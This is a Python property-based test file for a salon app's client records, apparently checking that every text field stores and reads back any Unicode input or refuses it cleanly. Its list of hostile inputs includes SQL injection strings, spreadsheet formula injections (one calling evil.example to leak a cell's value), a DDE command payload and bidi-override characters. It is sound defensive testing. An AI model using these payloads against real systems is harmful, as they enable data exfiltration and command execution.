"""Property tests: any text through every text field of the client service.

Each value either reads back exactly as typed (single-line fields lose their
leading and trailing whitespace, as documented in ``check_text``) or is
refused with a ``ValidationError`` naming that field, and nothing is saved.
NUL is always refused (PostgreSQL cannot store it). Runs on SQLite and
PostgreSQL; one database per test function, many examples in it.
"""

from __future__ import annotations

import dataclasses
import datetime as dt

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from salon_desktop.db.models import (
    AuditEntry,
    Client,
    ClientPhone,
    ClientPhoto,
    ClientTag,
    ColourFormula,
)
from salon_desktop.domain.client import ClientDraft, PhoneEntry, PhotoKind
from salon_desktop.domain.text import fold, looks_like_phone, normalise_newlines
from salon_desktop.domain.validation import ValidationError

from .conftest import row_count

TODAY = dt.date(2026, 11, 23)
PHONE = "+48 601 234 567"  # valid in the default region (PL)

# field -> (name in FieldError, single line?)
CLIENT_FIELDS = {
    "first_name": ("first_name", True),
    "last_name": ("last_name", True),
    "email": ("email", True),
    "address": ("address", False),
    "allergies": ("allergies", False),
    "skin_notes": ("skin_notes", False),
    "hair_notes": ("hair_notes", False),
    "notes": ("notes", False),
    "tags": ("tags", True),
    "phone_label": ("phones.0", True),
}
ATTACHED_FIELDS = {
    "formula": ("formula", False),
    "photo_note": ("note", False),
}
ALL_FIELDS = {**CLIENT_FIELDS, **ATTACHED_FIELDS}

NASTY = [
    "",
    " ",
    "\u200e",
    "\u200f",
    "\u200c",
    "\u200d",
    "\ufeff",
    "\u202e",
    "\u2066x\u2069",
    "'); DROP TABLE clients;--",
    "Robert'); DROP TABLE clients; --",
    "1' OR '1'='1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+2",
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd",
    "=cmd|' /C calc'!A0",
    "\x00",
    "a\x00b",
    "\t",
    "\r\n",
    "\n\n\n",
    "\x1b[31m",
    "\x7f",
    "😀",
    "👩🏽‍🦰",
    "🇮🇷🇵🇱",
    "ﷺ",
    "ß",
    "İ",
    "ǅ",
    "Ｚｏｌｗ",
    "%",
    "_",
    "\\",
    '"',
    "'",
    "`",
    "\u0085",
    "\u2028",
    "\u00a0",
    "\u3000",
    "e\u0301",
    "\U0010ffff",
    "\ufffd",
    "\ufffe",
    "مریم",
    "علي",
    "Żółw",
    "x@y.zz",
    "a.b@c.d.ee",
]

# Any Unicode including lone surrogates and controls, mixed with the marks above.
chars = st.one_of(
    st.characters(),  # every code point except surrogates
    st.characters(categories=["Cs", "Cc", "Cf", "Zs", "Zl", "Zp", "Mn"]),
    st.sampled_from("\u200e\u200f\u200c\x00 \t\n"),
)
short_text = st.text(chars, max_size=60)
long_text = st.builds(
    lambda s, n: (s * n)[:10_000], st.text(chars, min_size=1, max_size=30), st.integers(1, 10_000)
)
mixed = st.builds(
    lambda parts: "".join(parts),
    st.lists(st.one_of(st.sampled_from(NASTY), short_text), max_size=6),
)
emails = st.builds(lambda a, b, c: f"{a}@{b}.{c}", short_text, short_text, short_text)
TEXT = st.one_of(st.sampled_from(NASTY), short_text, mixed, long_text, emails)

PROPS = settings(
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ]
)


class World:
    """What one test function's examples share: the context and a base client."""

    def __init__(self, ctx, tmp_path):
        self.ctx = ctx
        self.base_id = ctx.clients.create(ClientDraft(first_name="Base", last_name="Client"), None)
        self.photo = tmp_path / "photo.jpg"
        self.photo.write_bytes(b"\xff\xd8\xff")

    def counts(self) -> dict:
        return {
            m.__tablename__: row_count(self.ctx, m)
            for m in (Client, ClientPhone, ClientTag, ColourFormula, ClientPhoto, AuditEntry)
        }


@pytest.fixture
def world(ctx, tmp_path) -> World:
    return World(ctx, tmp_path)


def draft_with(field: str, value: str) -> ClientDraft:
    d = ClientDraft(first_name="Prop", last_name="Test")
    if field == "tags":
        d.tags = [value]
    elif field == "phone_label":
        d.phones = [PhoneEntry(PHONE, value)]
    else:
        setattr(d, field, value)
    return d


def read_back(f, field: str):
    d = f.draft
    if field == "tags":
        return d.tags
    if field == "phone_label":
        return [p.label for p in d.phones]
    return getattr(d, field)


def expected(field: str, value: str):
    single = ALL_FIELDS[field][1]
    # Multi-line text keeps its lines, with every line end stored as "\n".
    v = value.strip() if single else normalise_newlines(value)
    if field == "tags":
        return [v] if v else []  # an empty tag is no tag
    if field == "phone_label":
        return [v]
    return v


def put(world: World, field: str, value: str, op: str):
    """Store ``value`` in ``field``; return what reads back."""
    ctx = world.ctx
    if field == "formula":
        fid = ctx.clients.add_formula(world.base_id, TODAY, value, None, None)
        return next(f.formula for f in ctx.clients.get(world.base_id).formulas if f.id == fid)
    if field == "photo_note":
        pid = ctx.clients.add_photo(world.base_id, world.photo, PhotoKind.AFTER, TODAY, value, None)
        return next(p.note for p in ctx.clients.get(world.base_id).photos if p.id == pid)
    draft = draft_with(field, value)
    if op == "create":
        cid = ctx.clients.create(draft, None, allow_duplicate=True)
    else:
        cid = world.base_id
        current = ctx.clients.get(cid)
        ctx.clients.update(
            cid,
            dataclasses.replace(draft, first_name=draft.first_name),
            None,
            expected_version=current.version,
        )
    return read_back(ctx.clients.get(cid), field)


def check_round_trip(world: World, field: str, value: str, op: str) -> None:
    before = world.counts()
    base_before = world.ctx.clients.get(world.base_id)
    try:
        got = put(world, field, value, op)
    except ValidationError as err:
        event(f"{field}: refused")
        assert err.errors, "a refusal names at least one field"
        assert {e.field for e in err.errors} == {ALL_FIELDS[field][0]}, err.errors
        for e in err.errors:
            assert e.message
        assert world.counts() == before, "a refused value saved something"
        assert world.ctx.clients.get(world.base_id) == base_before
        return
    event(f"{field}: accepted")
    assert "\x00" not in value, "NUL must always be refused"
    assert got == expected(field, value)


@PROPS
@given(
    field=st.sampled_from(sorted(ALL_FIELDS)), value=TEXT, op=st.sampled_from(["create", "update"])
)
@example(field="notes", value="'); DROP TABLE clients;--", op="create")
@example(field="first_name", value="\u200fمریم\u200c", op="create")
@example(field="address", value='=HYPERLINK("http://x","y")', op="update")
@example(field="first_name", value="ﷺ" * 200, op="create")
@example(field="notes", value="😀" * 10_000, op="create")
@example(field="tags", value="\x00", op="create")
@example(field="address", value="\r", op="create")  # an old Mac line end is stored as \n
def test_every_text_field_reads_back_or_is_refused(world, field, value, op):
    check_round_trip(world, field, value, op)


@PROPS
@given(
    field=st.sampled_from(sorted(ALL_FIELDS)),
    before=TEXT,
    after=TEXT,
    op=st.sampled_from(["create", "update"]),
)
def test_nul_is_always_refused(world, field, before, after, op):
    value = f"{before}\x00{after}"
    before_counts = world.counts()
    with pytest.raises(ValidationError) as err:
        put(world, field, value, op)
    assert ALL_FIELDS[field][0] in {e.field for e in err.value.errors}
    assert world.counts() == before_counts


@PROPS
@given(first=TEXT, last=TEXT)
def test_accepted_names_are_found_by_search(world, first, last):
    """A stored name never breaks search, and its folded words find it again."""
    ctx = world.ctx
    try:
        cid = ctx.clients.create(
            ClientDraft(first_name=first, last_name=last), None, allow_duplicate=True
        )
    except ValidationError as err:
        assert {e.field for e in err.errors} <= {"first_name", "last_name"}
        return
    for query in (first, last, f"{first} {last}"):
        ctx.search.search(query)  # never raises
        ctx.search.search(query, archived=True)
    words = fold(f"{first} {last}").split()
    if not words or len(words[0]) > 200 or looks_like_phone(words[0]):
        return  # (a digits-only word is searched as a phone fragment)
    page = ctx.search.search(words[0], limit=1000)
    assert cid in {r.id for r in page.rows} or page.next_offset is not None, words[0]
    event("searched by its first word")


@PROPS
@given(query=TEXT)
def test_search_never_crashes(world, query):
    page = world.ctx.search.search(query)
    assert page.next_offset is None or len(page.rows) > 0
    world.ctx.search.search(query, archived=True)
